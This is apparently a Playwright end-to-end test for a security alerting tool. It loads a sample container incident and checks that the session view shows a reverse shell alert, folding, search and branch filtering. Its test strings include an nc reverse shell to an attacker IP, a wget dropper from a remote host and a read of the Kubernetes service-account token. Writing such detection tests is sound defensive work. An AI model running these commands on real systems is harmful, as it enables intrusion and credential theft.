import { expect, type Page, test } from "@playwright/test";
import { signInAsAdmin } from "./helpers";
import { ensureBuiltinRules } from "./seed-rules";

const NETWORK_TOOL_RULE = "1a289854-5b78-49fe-9440-8a8096b1ab50";
const SHELL_RULE_NAME = "Suspicious Interactive Shell Spawned From Inside A Container";
/** The sample's reverse shell: the web shell's dropper runs nc back to the attacker. */
const REVERSE_SHELL = "/tmp/nc 203.0.113.45 4444 -e /bin/bash";

type ListedAlert = { id: string; containerName: string | null; processName: string | null; commandLine: string | null };

/** Loads the sample incident unless it is there; says whether this test loaded it (and so removes it). */
async function loadSample(page: Page, origin: string): Promise<boolean> {
  const response = await page.request.post("/api/samples/load", { data: { format: "ecs" }, headers: { origin } });
  expect(response.status()).toBe(200);
  return !((await response.json()) as { alreadyLoaded: boolean }).alreadyLoaded;
}

async function reverseShellAlert(page: Page): Promise<string> {
  const response = await page.request.get(`/api/alerts?rule=${NETWORK_TOOL_RULE}&q=4444&limit=100`);
  expect(response.status()).toBe(200);
  const { items } = (await response.json()) as { items: ListedAlert[] };
  const alert = items.find((item) => item.containerName === "php-fpm" && item.commandLine === REVERSE_SHELL);
  expect(alert, "the sample's reverse shell alert").toBeTruthy();
  return (alert as ListedAlert).id;
}

test("the session view shows the web shell's session with the alert inline; fold, search and alerts' branches work", async ({
  page,
}) => {
  test.setTimeout(90_000);
  await signInAsAdmin(page);
  const origin = new URL(page.url()).origin;
  await ensureBuiltinRules(page.request, origin);
  const loadedHere = await loadSample(page, origin);
  try {
    await page.goto(`/alerts/${await reverseShellAlert(page)}`);

    const session = page.getByRole("region", { name: "Session" });
    // a loaded machine can take a while to open the alert the first time
    await expect(session.getByTestId("session-summary")).toContainText("by entry leader", { timeout: 20_000 });
    const rows = session.getByTestId("session-row");
    // the entry leader heads the session: php-fpm's master process
    await expect(session.getByRole("list", { name: "Processes of the session led by php-fpm" })).toBeVisible();
    // the alert inline, on the reverse shell's row, which the view scrolled to
    const alertRow = rows.filter({ has: page.getByTestId("session-alert").filter({ hasText: "this alert" }) });
    await expect(alertRow).toContainText(REVERSE_SHELL);
    await expect(alertRow).toContainText("user www-data");
    await expect(alertRow).toContainText("exit 0");

    // fold the dropper's shell: its three children go, then come back
    const dropper = rows.filter({ hasText: "sh -c wget -q http://kx-updates.top/u" });
    await dropper.scrollIntoViewIfNeeded();
    const mkdir = rows.filter({ hasText: "mkdir -p /tmp/.x" });
    await expect(mkdir).toBeVisible();
    await dropper.getByRole("button", { name: /^Fold the processes under sh/ }).click();
    await expect(mkdir).toHaveCount(0);
    await expect(dropper).toContainText("+3 below");
    await dropper.getByRole("button", { name: /^Unfold the processes under sh/ }).click();
    await expect(mkdir).toBeVisible();

    // search within the session: the service-account reconnaissance
    await session.getByRole("searchbox", { name: "Search the session" }).fill("serviceaccount");
    await expect(session.getByTestId("session-search-count")).toHaveText("2 matches");
    await expect(rows.filter({ hasText: "cat /var/run/secrets/kubernetes.io/serviceaccount/token" })).toBeVisible();
    await expect(mkdir).toHaveCount(0);
    await session.getByRole("searchbox", { name: "Search the session" }).fill("");
    await expect(mkdir).toHaveCount(1);

    // only the alerts' branches: the dropper's mkdir raised nothing and goes; the reverse shell stays
    await session.getByLabel("Show only alerts' branches").check();
    await expect(mkdir).toHaveCount(0);
    await expect(alertRow).toBeVisible();
    await session.getByLabel("Show only alerts' branches").uncheck();

    // jump from the session to another of its alerts: the interactive shell below the reverse shell
    const interactive = rows
      .filter({ hasText: "bash -i" })
      .getByTestId("session-alert")
      .filter({ hasText: SHELL_RULE_NAME })
      .first();
    await interactive.scrollIntoViewIfNeeded();
    await interactive.click();
    await expect(page.getByRole("heading", { level: 1, name: SHELL_RULE_NAME })).toBeVisible();
  } finally {
    if (loadedHere) {
      const removed = await page.request.delete("/api/samples", { headers: { origin } });
      expect(removed.status()).toBe(200);
    }
  }
});
